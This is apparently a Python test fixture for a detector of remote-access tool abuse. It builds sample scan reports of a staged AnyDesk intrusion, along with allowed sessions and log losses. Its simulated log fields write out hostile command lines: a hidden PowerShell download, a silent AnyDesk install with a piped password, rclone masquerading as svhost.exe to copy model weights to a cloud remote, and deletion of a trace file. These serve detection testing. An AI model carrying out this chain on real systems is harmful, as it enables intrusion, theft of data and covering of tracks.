"""Reports made by hand, as a night's scan gives them: an intrusion through AnyDesk, an allowed use, some losses."""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, datetime, timedelta

from detector.model.event import EventRef
from detector.model.finding import Finding, RuleRef
from detector.model.incident import Edge, Incident
from detector.model.level import Level
from detector.model.loss import Loss, LossKind
from detector.model.policy import Decision, Verdict
from detector.model.report import Input, Report, Run, Stats
from detector.model.rule import Action, Phase

START = datetime(2025, 10, 14, 22, 41, 7, tzinfo=UTC)
DAY = timedelta(days=1)
OUTSIDE = Decision(Verdict.UNSANCTIONED, "anydesk-labs", "anydesk-labs does not cover it: host DESK-212 is not covered")
MOVED = Decision(Verdict.UNSANCTIONED, None, "no clause expects rdp from DESK-212 to VAULT1 by m.okafor")


def finding(
    number: int,
    minutes: float,
    host: str,
    rule: tuple[str, Level, Phase],
    fields: dict[str, str],
    *,
    user: str = "NORTHLAB\\m.okafor",
    tool: str | None = "anydesk",
    action: Action | None = None,
    asset: str | None = None,
    decision: Decision = OUTSIDE,
    count: int = 1,
    channel: str = "Microsoft-Windows-Sysmon/Operational",
    event_id: int = 1,
) -> Finding:
    """One finding ``minutes`` after the start."""
    time = START + timedelta(minutes=minutes)
    provider = "Microsoft-Windows-Security-Auditing" if channel == "Security" else "Microsoft-Windows-Sysmon"
    ref = EventRef(f"logs/{host}/Sysmon.evtx", host, channel, provider, event_id, 88_000 + number, time)
    title, level, phase = rule
    quoted = RuleRef(f"5d3c1f0a-0000-4000-8000-{number:012d}", title, level)
    return Finding(
        f"f-{number:012x}", quoted, tool, phase, action, host, user, time, (ref,), fields, asset, decision, count
    )


FINDINGS = (
    finding(1, 0, "DESK-212", ("AnyDesk downloaded by a browser or script", Level.MEDIUM, Phase.ARRIVAL),
            {"CommandLine": "powershell -w hidden iwr https://download.anydesk.com/AnyDesk.exe -o C:\\Users\\Public\\ad.exe"}),
    finding(2, 1.4, "DESK-212", ("AnyDesk installed silently", Level.HIGH, Phase.INSTALL),
            {"CommandLine": '"C:\\Users\\Public\\ad.exe" --install "C:\\ProgramData\\AnyDesk" --start-with-win --silent',
             "Image": "C:\\Users\\Public\\ad.exe"}, action=Action.INSTALL),
    finding(3, 1.6, "DESK-212", ("AnyDesk installed as a service", Level.MEDIUM, Phase.INSTALL),
            {"ImagePath": '"C:\\ProgramData\\AnyDesk\\AnyDesk.exe" --service', "ServiceName": "AnyDesk Service"},
            action=Action.INSTALL, user="", channel="System", event_id=7045),
    finding(4, 2.1, "DESK-212", ("AnyDesk password for unattended access set from a pipe", Level.HIGH,
            Phase.UNATTENDED_ACCESS), {"CommandLine": 'cmd.exe /c echo Winter2025! | "C:\\ProgramData\\AnyDesk\\AnyDesk.exe"'
            " --set-password"}, action=Action.INSTALL),
    finding(5, 3, "DESK-212", ("AnyDesk connects to its relay", Level.LOW, Phase.SESSION),
            {"QueryName": "relay-5f2c9b1a.net.anydesk.com"}, action=Action.CONNECT, count=214, event_id=22),
    *(
        finding(10 + n, 31 + n, "DESK-212", ("Shell under AnyDesk", Level.HIGH, Phase.COMMAND),
                {"CommandLine": f"cmd.exe /c {line}"}, action=Action.COMMAND)
        for n, line in enumerate(("whoami /all", "nltest /dclist:northlab", "net view \\\\VAULT1", "ipconfig /all",
                                  "dir \\\\VAULT1\\weights$", "quser /server:VAULT1"))
    ),
    finding(30, 52, "VAULT1", ("Remote desktop logon", Level.LOW, Phase.MOVEMENT),
            {"TargetUserName": "m.okafor", "IpAddress": "192.0.2.112", "LogonType": "10"}, tool=None, asset="VAULT1",
            decision=MOVED, user="m.okafor", channel="Security", event_id=4624),
    finding(31, 55, "VAULT1", ("Files of a share read", Level.LOW, Phase.COLLECTION),
            {"ShareName": "\\\\*\\weights$", "RelativeTargetName": "gen4\\model-00007-of-00032.safetensors",
             "IpAddress": "192.0.2.112"}, tool=None, asset="VAULT1", decision=MOVED, user="m.okafor", count=32,
            channel="Security", event_id=5145),
    finding(32, 84, "DESK-212", ("rclone copies to a cloud remote", Level.HIGH, Phase.EXFILTRATION),
            {"CommandLine": "C:\\Users\\Public\\svhost.exe copy \\\\VAULT1\\weights$\\gen4 mega:b4 --transfers 24 --no-check-"
             "certificate --config C:\\Users\\Public\\r.conf"}, tool="rclone", action=Action.UPLOAD, asset="VAULT1",
            decision=Decision(Verdict.UNSANCTIONED, "rclone-backup",
                              "rclone-backup does not cover it: host DESK-212 is not covered")),
    finding(33, 1640, "DESK-212", ("AnyDesk trace deleted", Level.HIGH, Phase.COVER_UP),
            {"CommandLine": "cmd.exe /c del /f C:\\ProgramData\\AnyDesk\\ad_svc.trace"}),
)  # fmt: skip

INCIDENT = Incident(
    id="i-8f21c04d77ab",
    level=Level.CRITICAL,
    title="AnyDesk and rclone on DESK-212 reached VAULT1, and data left",
    summary="AnyDesk and rclone was used on DESK-212 from 2025-10-14 22:41:07 UTC as NORTHLAB\\m.okafor. From there: "
    "DESK-212 to VAULT1 by rdp. AI assets reached: VAULT1 (weights). Data was sent out 2025-10-15 00:05:07 UTC from DESK-212.",
    first_seen=FINDINGS[0].time,
    last_seen=FINDINGS[-1].time,
    origins=("DESK-212",),
    assets=("VAULT1",),
    tools=("anydesk", "rclone"),
    users=("NORTHLAB\\m.okafor",),
    edges=(
        Edge("internet", "DESK-212", "anydesk", "", FINDINGS[4].time, FINDINGS[4].time, (FINDINGS[4].id,)),
        Edge("DESK-212", "VAULT1", "rdp", "m.okafor", FINDINGS[11].time, FINDINGS[11].time, (FINDINGS[11].id,)),
        Edge("DESK-212", "VAULT1", "smb", "m.okafor", FINDINGS[12].time, FINDINGS[12].time, (FINDINGS[12].id,)),
    ),
    findings=tuple(one.id for one in FINDINGS),
    reasons=(
        "anydesk on DESK-212: anydesk-labs does not cover it: host DESK-212 is not covered",
        "rclone on DESK-212: rclone-backup does not cover it: host DESK-212 is not covered",
        "it has the shape of abuse: AnyDesk installed silently, AnyDesk password for unattended access set from a pipe",
        "VAULT1 was reached: remote desktop logon (no clause expects rdp from DESK-212 to VAULT1 by m.okafor)",
        "model files or data sets were read there",
        "a copy left: C:\\Users\\Public\\svhost.exe copy \\\\VAULT1\\weights$\\gen4 mega:b4 --transfers 24 --no-check-"
        "certificate --config C:\\Users\\Public\\r.conf",
    ),
    checks=(
        "Ask the people at DESK-212 whether they started or expected the session; if not, cut DESK-212 off the network.",
        "The tool is installed: it comes back after a reboot. Remove it from DESK-212 after taking evidence.",
        "Change the credentials of NORTHLAB\\m.okafor, m.okafor, and look for their logons elsewhere.",
        "Collect %ProgramData%\\AnyDesk\\connection_trace.txt and ad_svc.trace: they name the caller's id and address.",
        "Treat what lay on VAULT1 as gone: find the amount in firewall or proxy records for the destination named above.",
    ),
)

ALLOWED = (
    finding(50, 400, "FRONT-01", ("ScreenConnect session", Level.MEDIUM, Phase.SESSION), {"Data": "Connected: desk.ito"},
            tool="screenconnect", action=Action.SESSION, count=9, user="NORTHLAB\\desk.ito",
            decision=Decision(Verdict.ALLOWED, "sc-desk", "sc-desk covers it: hosts, tenant, operators, hours fit")),
    finding(51, 420, "FRONT-02", ("ScreenConnect session", Level.MEDIUM, Phase.SESSION), {"Data": "Connected: desk.ito"},
            tool="screenconnect", action=Action.SESSION, count=3, user="NORTHLAB\\desk.ito",
            decision=Decision(Verdict.ALLOWED, "sc-desk", "sc-desk covers it: hosts, tenant, operators, hours fit")),
    finding(52, 700, "STORE-01", ("rclone copies to a cloud remote", Level.MEDIUM, Phase.EXFILTRATION),
            {"CommandLine": "rclone copy E:\\exports glacier:"}, tool="rclone", action=Action.UPLOAD,
            user="NORTHLAB\\sa.copy",
            decision=Decision(Verdict.ALLOWED, "rclone-backup", "rclone-backup covers it: hosts, users, hours fit")),
)  # fmt: skip

UNDECIDED = finding(
    60, 800, "STORE-02", ("rclone copies to a cloud remote", Level.MEDIUM, Phase.EXFILTRATION),
    {"CommandLine": "rclone sync"}, tool="rclone", user="", action=Action.UPLOAD,
    decision=Decision(Verdict.UNKNOWN, "rclone-backup", "rclone-backup would cover it, but no event shows users", ("users",)),
)  # fmt: skip

LOSSES = (
    Loss(LossKind.DAMAGED, "logs/VAULT1/Security.evtx, chunk 17", "the chunk's checksum is wrong", 1),
    Loss(LossKind.DAMAGED, "logs/VAULT1/Security.evtx, chunk 18", "the chunk's checksum is wrong", 1),
    Loss(LossKind.TRUNCATED, "logs/GATE-2/System.evtx", "the file ends 40 of 68 chunks early", 40),
    Loss(LossKind.NOT_EVALUABLE, "AnyDesk installed silently", "needs CommandLine; Security 4688 here has none", 912),
    Loss(LossKind.UNREADABLE, "logs/DC-1/Security.evtx", "permission denied", 1),
)

INPUTS = (
    Input("logs/DESK-212/Sysmon.evtx", "9f" * 32, 69_632, "evtx", 412_080, START - 9 * DAY, START + 2 * DAY),
    Input("logs/VAULT1/Security.evtx", "1c" * 32, 21_041_152, "evtx", 98_200, START - 3 * DAY, START + DAY),
    Input("logs/notes.txt", "00" * 32, 12, "ignored", 0, None, None),
)  # fmt: skip

RUN = Run("0.1.0", "ab" * 32, 214, "cd" * 32, "ef" * 32, ("logs",))
STATS = Stats(records=510_280, duplicates=12, blocks=8_000, screened_out=7_400, judged=61_004)

NIGHT = Report(RUN, INPUTS, (INCIDENT,), (*FINDINGS, *ALLOWED, UNDECIDED), LOSSES, STATS)
QUIET = Report(RUN, INPUTS, (), ALLOWED, (), STATS)
QUIET_INCOMPLETE = replace(QUIET, losses=LOSSES)
NOTHING_GIVEN = replace(NIGHT, run=replace(RUN, assets=None, policy=None))
NOTHING_READ = replace(QUIET, findings=(), inputs=INPUTS[2:], stats=Stats())
UNDECIDED_ONLY = replace(QUIET, findings=(*ALLOWED, UNDECIDED))
